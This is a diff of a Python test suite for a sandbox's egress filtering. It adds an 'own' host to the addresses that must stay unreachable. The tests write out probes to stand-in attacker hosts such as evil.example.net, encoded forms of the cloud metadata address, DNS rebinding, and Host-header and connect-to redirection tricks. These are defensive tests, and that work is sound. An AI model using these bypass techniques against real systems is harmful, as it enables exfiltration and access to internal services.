@@ -8,7 +8,7 @@ import subprocess
 import tempfile
 import unittest
 
-from allowed_hosts import METADATA, OTHER, PRIVATE, World, enter
+from allowed_hosts import METADATA, OTHER, OWN, PRIVATE, World, enter
 from harness import Case, Server, main
 
 SECRET = "word-7c1f09ab55e2-of-the-api"
@@ -218,7 +218,7 @@ class Egress(Case):
         run = self.create(
             "api",
             f"for host in secret-words.evil.test evil.example.net; do {code} http://$host/ 2>&1; echo; done; getent hosts more-words.evil.test; python3 -c \"{';'.join(asks)}\" 2>&1 | tail -1",
-            f"for url in http://{METADATA}/ http://{PRIVATE}/ http://{OTHER}/ http://metadata.example.com/ http://intern.example.com/ http://local.example.com/ http://evil.example.com/ "
+            f"for url in http://{METADATA}/ http://{PRIVATE}/ http://{OTHER}/ http://metadata.example.com/ http://intern.example.com/ http://local.example.com/ http://own.example.com/ http://evil.example.com/ "
             f"http://0xa9fea9fe/ http://2852039166/ http://[::ffff:169.254.169.254]/ ; do {code} $url 2>/dev/null; echo; done; {CURL} http://tools.example.com/",
             f"{CURL} http://rebound.test/; {code} http://rebound.test/ 2>&1",
             f"{code} -H 'Host: evil.example.com' http://tools.example.com/; {code} --connect-to api.example.com:443:tools.example.com:443 https://api.example.com/ 2>&1; "
@@ -230,7 +230,7 @@ class Egress(Case):
         self.assertRegex(names.splitlines()[-1], "refused")
         self.assertEqual(set(addresses.split("\n")[:-2]) - {"000", "403", "502"}, set(), addresses)
         self.assertIn("this is tools.example.com", addresses)
-        self.assertEqual((self.world.reached(METADATA), self.world.reached(OTHER)), ([], []))
+        self.assertEqual([self.world.reached(address) for address in (METADATA, OTHER, OWN)], [[], [], []])
         self.assertEqual({entry["host"] for entry in self.world.reached(PRIVATE)}, {"tools.example.com"})
         self.assertIn("this is rebound.test", rebound)
         self.assertRegex(rebound.splitlines()[-1], "403|502")
